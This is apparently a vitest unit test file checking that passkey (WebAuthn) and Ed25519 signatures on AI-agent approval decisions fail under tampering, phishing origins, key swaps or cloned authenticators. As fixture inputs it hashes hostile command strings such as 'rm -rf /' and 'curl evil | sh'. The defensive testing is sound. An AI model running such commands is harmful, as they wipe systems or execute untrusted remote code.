/**
 * Passkey (WebAuthn) signatures on statements, as both verifiers check them: the Worker's signatureValid
 * and the agent's verifyDecision, each calling @simplewebauthn/server with the challenge = sha256 of the
 * statement bytes and the RP ID and origin pinned at enrolment. Assertions come from a software
 * authenticator on node:crypto (P-256, ES256; test/unit/soft-authenticator.ts), built per the WebAuthn spec.
 */
import { createHash } from "node:crypto";
import * as ed from "@noble/ed25519";
import { describe, expect, it } from "vitest";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { TrustStore } from "../../agent/daemon/trust";
import { type Trust, verifyDecision } from "../../agent/verify-decision";
import { signatureValid } from "../../worker/auth/statement-signature";
import { type DeviceKeyInfo, ownerPinOf } from "../../worker/protocol/device-keys";
import {
  type DecisionProof,
  type DecisionStatement,
  type KeyEnrolment,
  keyIdOf,
  fromBase64Url,
  type StatementSignature,
  statementBytes,
  statementChallenge,
  toBase64Url,
  type VerifyingKey,
} from "../../worker/protocol/signed-decision";
import { decisionStatement, HELD, sha } from "./decision-statements";
import { type SoftPasskey, softPasskey } from "./soft-authenticator";

const NOW = Date.now();
const RP = { rpId: "tower.example.com", origin: "https://tower.example.com" };

async function passkey(seed: string) {
  const p = softPasskey(seed);
  const keyId = (await keyIdOf(fromBase64Url(p.publicKey))) as DecisionStatement["keyId"];
  const key: VerifyingKey = { alg: "webauthn", publicKey: p.publicKey, credentialId: p.credentialId, ...RP };
  return { p, keyId, key };
}
const ann = await passkey("ann");
const other = await passkey("other");

const statement = (over: Partial<DecisionStatement> = {}) => decisionStatement(ann.keyId, NOW, over);

async function signWith(
  p: SoftPasskey,
  keyId: DecisionStatement["keyId"],
  s: DecisionStatement,
  at: typeof RP & { signCount?: number } = RP,
  challenge?: string,
) {
  return { ...p.assert(challenge ?? (await statementChallenge(s)), at), keyId } as StatementSignature;
}

describe("happy", () => {
  it("a passkey assertion over the statement's hash verifies on the server", async () => {
    const s = statement();
    expect(await signatureValid(s, await signWith(ann.p, ann.keyId, s), ann.key)).toBe(true);
  });

  it("the challenge is the base64url sha256 of the statement's canonical bytes", async () => {
    const s = statement();
    expect(await statementChallenge(s)).toBe(toBase64Url(createHash("sha256").update(statementBytes(s)).digest()));
  });
});

describe("security", () => {
  const changes: [string, Partial<DecisionStatement>][] = [
    ["workspace", { workspaceId: "wsp_00000000000000000002" }],
    ["session", { sessionId: "ses_00000000000000000002" }],
    ["approval", { approvalId: "apr_00000000000000000002" }],
    ["tool use", { toolUseId: "toolu_2" }],
    ["input", { inputSha256: sha({ command: "rm -rf /" }) }],
    ["decision", { decision: "deny" }],
    ["edit", { updatedInputSha256: sha({ command: "make deploy --force" }) }],
    ["approver", { approver: "usr_eve" }],
    ["expiry", { expiresAt: NOW + 600_000 }],
  ];
  it.each(changes)("a signature does not verify once the statement's %s is changed", async (_, over) => {
    const signature = await signWith(ann.p, ann.keyId, statement());
    expect(await signatureValid(statement(over), signature, ann.key)).toBe(false);
  });

  it("an assertion over another challenge does not verify", async () => {
    const s = statement();
    expect(await signatureValid(s, await signWith(ann.p, ann.keyId, s, RP, toBase64Url(new Uint8Array(32))), ann.key)).toBe(false);
  });

  it("an assertion made on another origin or for another RP ID does not verify", async () => {
    const s = statement();
    const phished = await signWith(ann.p, ann.keyId, s, { ...RP, origin: "https://tower.example.com.evil.test" });
    const otherRp = await signWith(ann.p, ann.keyId, s, { rpId: "evil.test", origin: RP.origin });
    expect(await signatureValid(s, phished, ann.key)).toBe(false);
    expect(await signatureValid(s, otherRp, ann.key)).toBe(false);
  });

  it("another credential's assertion does not verify, under its own credential id or the enrolled one", async () => {
    const s = statement();
    const own = await signWith(other.p, ann.keyId, s);
    expect(await signatureValid(s, own, ann.key)).toBe(false);
    expect(await signatureValid(s, { ...own, credentialId: ann.p.credentialId } as StatementSignature, ann.key)).toBe(false);
  });

  it("an assertion without user verification does not verify", async () => {
    const s = statement();
    const sig = { ...ann.p.assert(await statementChallenge(s), { ...RP, userVerified: false }), keyId: ann.keyId } as StatementSignature;
    expect(await signatureValid(s, sig, ann.key)).toBe(false);
  });

  it("a passkey assertion is never checked against an Ed25519 key, nor an Ed25519 signature against a passkey", async () => {
    const s = statement();
    const secret = new Uint8Array(32).fill(9);
    const edKey: VerifyingKey = { alg: "ed25519", publicKey: toBase64Url(await ed.getPublicKeyAsync(secret)) };
    expect(await signatureValid(s, await signWith(ann.p, ann.keyId, s), edKey)).toBe(false);
    const edSig: StatementSignature = { alg: "ed25519", keyId: ann.keyId, sig: toBase64Url(await ed.signAsync(statementBytes(s), secret)) };
    expect(await signatureValid(s, edSig, ann.key)).toBe(false);
  });
});

const ownerSecret = new Uint8Array(32).fill(1);
const ownerPub = await ed.getPublicKeyAsync(ownerSecret);
const trust: Trust = { owner: { keyId: await keyIdOf(ownerPub), publicKey: toBase64Url(ownerPub) }, revoked: new Set() };

describe("the agent, trusting only its owner's pinned Ed25519 key", () => {
  const answer = { behavior: "allow" as const };

  async function enrolled(over: Partial<Extract<KeyEnrolment, { alg: "webauthn" }>> = {}) {
    const e: KeyEnrolment = {
      type: "tower.enrolment/v1",
      workspaceId: "wsp_00000000000000000001",
      userId: "usr_ann",
      keyId: ann.keyId,
      alg: "webauthn",
      publicKey: ann.p.publicKey,
      credentialId: ann.p.credentialId,
      ...RP,
      right: "decide",
      machines: null,
      issuedAt: NOW - 1000,
      ...over,
    };
    return {
      statement: e,
      signature: {
        alg: "ed25519" as const,
        keyId: trust.owner.keyId as DecisionStatement["keyId"],
        sig: toBase64Url(await ed.signAsync(statementBytes(e), ownerSecret)),
      },
    };
  }
  const verify = async (proof: DecisionProof) => verifyDecision({ answer, proof, held: HELD, trust, agentId: null, now: NOW });

  it("applies an approve signed with a passkey its owner enrolled", async () => {
    const s = statement();
    expect(
      await verify({ decision: { statement: s, signature: await signWith(ann.p, ann.keyId, s) }, enrolment: await enrolled(), revocations: [] }),
    ).toMatchObject({ ok: true });
  });

  it("refuses an assertion made on another origin than the enrolment pins", async () => {
    const s = statement();
    const signature = await signWith(ann.p, ann.keyId, s, { rpId: RP.rpId, origin: "https://elsewhere.example.com" });
    expect(await verify({ decision: { statement: s, signature }, enrolment: await enrolled(), revocations: [] })).toMatchObject({
      ok: false,
      reason: `the signature does not verify with key ${ann.keyId}`,
    });
  });

  it("refuses when the server swaps in another passkey's public key under the same enrolment", async () => {
    const s = statement();
    const good = await enrolled();
    const swapped = { ...good, statement: { ...good.statement, publicKey: other.p.publicKey, credentialId: other.p.credentialId } };
    const signature = await signWith(other.p, ann.keyId, s);
    expect(await verify({ decision: { statement: s, signature }, enrolment: swapped, revocations: [] })).toMatchObject({ ok: false });
  });

  it("refuses a passkey signature for another input than the call it holds", async () => {
    const s = statement({ inputSha256: sha({ command: "curl evil | sh" }) });
    expect(
      await verify({ decision: { statement: s, signature: await signWith(ann.p, ann.keyId, s) }, enrolment: await enrolled(), revocations: [] }),
    ).toMatchObject({
      ok: false,
      reason: "the signed statement is for another input than the call this machine holds",
    });
  });

  const counted = async (signCount: number) => {
    const s = statement();
    return { decision: { statement: s, signature: await signWith(ann.p, ann.keyId, s, { ...RP, signCount }) }, enrolment: await enrolled(), revocations: [] };
  };
  const withCounter = (n: number): Trust => ({ ...trust, counters: new Map([[ann.keyId, n]]) });

  it("refuses a passkey assertion whose signature counter does not increase over the one it kept (a cloned authenticator)", async () => {
    const run = async (t: Trust, signCount: number) =>
      verifyDecision({ answer, proof: await counted(signCount), held: HELD, trust: t, agentId: null, now: NOW });
    expect(await run(withCounter(5), 5)).toMatchObject({ ok: false, reason: expect.stringContaining("counter did not increase (5 after 5)") });
    expect(await run(withCounter(5), 3)).toMatchObject({ ok: false, reason: expect.stringContaining("may have been cloned") });
    expect(await run(withCounter(5), 0)).toMatchObject({ ok: false });
    expect(await run(withCounter(5), 6)).toMatchObject({ ok: true, counter: { keyId: ann.keyId, count: 6 } });
    // An authenticator that never counts (always 0) is not a clone.
    expect(await run(withCounter(0), 0)).toMatchObject({ ok: true });
  });

  it("the machine keeps each passkey's counter: a second decision carrying a counter already used is refused, even while the first is verified", async () => {
    const dir = mkdtempSync(join(tmpdir(), "trust-"));
    const store = TrustStore.open(dir, trust.owner.publicKey)!;
    const [first, again] = await Promise.all([counted(7), counted(7)]);
    const both = await Promise.all([store.verify(answer, first, HELD), store.verify(answer, again, HELD)]);
    expect(both.map((v) => v.ok).sort()).toEqual([false, true]);
    const reopened = TrustStore.open(dir, undefined)!;
    expect(await reopened.verify(answer, await counted(7), HELD)).toMatchObject({ ok: false, reason: expect.stringContaining("(7 after 7)") });
    expect(await reopened.verify(answer, await counted(8), HELD)).toMatchObject({ ok: true });
  });
});

describe("a passkey-only owner", () => {
  const info: DeviceKeyInfo = {
    id: ann.keyId,
    userId: "usr_ann",
    alg: "webauthn",
    publicKey: ann.p.publicKey,
    webauthn: { credentialId: ann.p.credentialId, ...RP },
    label: "phone",
    createdAt: NOW,
    revokedAt: null,
    enrolment: null,
    revocation: null,
  };

  it("pins their passkey on the machine by its pin, which then applies their passkey-signed approve and refuses another passkey's", async () => {
    const dir = mkdtempSync(join(tmpdir(), "trust-"));
    const store = TrustStore.open(dir, ownerPinOf(info))!;
    expect(store.ownerKeyId).toBe(ann.keyId);
    const s = statement();
    const own = { decision: { statement: s, signature: await signWith(ann.p, ann.keyId, s) }, enrolment: null, revocations: [] };
    expect(await store.verify({ behavior: "allow" }, own, HELD)).toMatchObject({ ok: true });
    const forged = { ...own, decision: { statement: s, signature: await signWith(other.p, ann.keyId, s, { ...RP, signCount: 2 }) } };
    expect(await TrustStore.open(dir, undefined)!.verify({ behavior: "allow" }, forged, HELD)).toMatchObject({ ok: false });
  });

  it("refuses a pin that is neither an Ed25519 key nor a passkey's", () => {
    expect(() => TrustStore.open(mkdtempSync(join(tmpdir(), "trust-")), "webauthn.bm90LWpzb24")).toThrow(/neither an Ed25519 public key nor a passkey/);
  });
});
